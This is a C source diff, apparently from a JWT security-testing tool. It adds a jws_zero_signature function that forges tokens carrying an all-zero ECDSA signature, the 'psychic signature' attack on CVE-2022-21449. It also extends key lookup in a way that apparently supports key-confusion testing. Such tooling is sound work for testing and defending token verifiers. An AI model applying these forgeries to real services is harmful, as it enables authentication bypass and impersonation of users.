@@ -582,14 +582,15 @@ static int fn_jws_verify(val *a, size_t n, val *out, char **err)
     return 0;
 }
 
-/* jws_key(alg): the run's own PEM private key for alg (generated once per run). */
+/* jws_key(alg): the run's own PEM private key for alg, or HMAC secret for HS* (generated once
+ * per run). */
 static int fn_jws_key(val *a, size_t n, val *out, char **err)
 {
     (void)n;
     const char *k = ac_jws_run_key(a[0].s);
     if (!k) {
         char *s = shown_arg(&a[0]);
-        *err = ac_sprintf("jws_key(): %s is not RS256..512, PS256..512 or ES256/384/512", s);
+        *err = ac_sprintf("jws_key(): %s is not HS, RS, PS (256, 384, 512) or ES256/384/512", s);
         free(s);
         return -1;
     }
@@ -613,8 +614,53 @@ static int fn_jwk_public(val *a, size_t n, val *out, char **err)
     return 0;
 }
 
+/* jws_zero_signature(t): the token's first two segments with an ECDSA signature r = s = 0 of
+ * the size its header's ES* alg needs (the psychic signature, CVE-2022-21449). */
+static int fn_jws_zero_signature(val *a, size_t n, val *out, char **err)
+{
+    (void)n;
+    char *seg[3];
+    if (jwt_split("jws_zero_signature", &a[0], seg, err) < 0) return -1;
+    ac_jwt j;
+    char *e = NULL;
+    size_t coord = 0;
+    if (ac_jwt_decode(a[0].s, &j, &e) == 0) {
+        const cJSON *alg = cJSON_GetObjectItemCaseSensitive(j.header, "alg");
+        coord = cJSON_IsString(alg) ? ac_jws_ec_coord_len(alg->valuestring) : 0;
+        ac_jwt_free(&j);
+    }
+    free(e);
+    if (!coord) {
+        *err = ac_strdup("jws_zero_signature(): the token's alg is not ES256, ES384 or ES512");
+    } else {
+        unsigned char zero[2 * 66] = { 0 };
+        char *sig = ac_base64url_encode(zero, 2 * coord);
+        *out = val_take(ac_sprintf("%s.%s.%s", seg[0], seg[1], sig));
+        free(sig);
+    }
+    for (int i = 0; i < 3; i++) free(seg[i]);
+    return coord ? 0 : -1;
+}
+
+/* The kid key_as_secret() looks for: the argument, or when it is a JWT the kid of its header
+ * (NULL when it has none). Caller frees. */
+static char *kid_of(const val *v)
+{
+    if (!(strlen(v->s) == v->len && ac_jwt_looks_like(v->s))) return ac_strdup(v->s);
+    ac_jwt j;
+    char *e = NULL, *kid = NULL;
+    if (ac_jwt_decode(v->s, &j, &e) == 0) {
+        const cJSON *k = cJSON_GetObjectItemCaseSensitive(j.header, "kid");
+        if (cJSON_IsString(k)) kid = ac_strdup(k->valuestring);
+        ac_jwt_free(&j);
+    }
+    free(e);
+    return kid;
+}
+
 /* key_as_secret(jwks, encoding[, kid]): the public key of a JWKS (the key with kid, else the
- * first RSA or EC key) or of a JWK or PEM key, in one of the encodings of ac_key_as_secret. */
+ * first RSA or EC key; kid may be a JWT, whose header's kid counts) or of a JWK or PEM key, in
+ * one of the encodings of ac_key_as_secret. */
 static int fn_key_as_secret(val *a, size_t n, val *out, char **err)
 {
     char *e = NULL;
@@ -623,7 +669,9 @@ static int fn_key_as_secret(val *a, size_t n, val *out, char **err)
     size_t i = 0;
     while (i < a[0].len && isspace((unsigned char)a[0].s[i])) i++;
     if (i < a[0].len && a[0].s[i] == '{') {
-        cJSON *jwk = ac_jwks_select(a[0].s, a[0].len, n > 2 ? a[2].s : NULL, &e);
+        char *kid = n > 2 ? kid_of(&a[2]) : NULL;
+        cJSON *jwk = ac_jwks_select(a[0].s, a[0].len, kid, &e);
+        free(kid);
         if (jwk) {
             k = ac_jwk_to_pkey(jwk, &e);
             jwk_text = cJSON_PrintUnformatted(jwk);
@@ -711,6 +759,7 @@ static const fn_def FUNCS[] = {
     { "jws_resign", 3, 3, false, fn_jws_resign },
     { "jws_sign", 4, 4, false, fn_jws_sign },
     { "jws_verify", 2, 2, true, fn_jws_verify },
+    { "jws_zero_signature", 1, 1, false, fn_jws_zero_signature },
     { "jwt_claims", 1, 1, false, fn_jwt_claims },
     { "jwt_header", 1, 1, false, fn_jwt_header },
     { "jwt_signature", 1, 1, false, fn_jwt_signature },
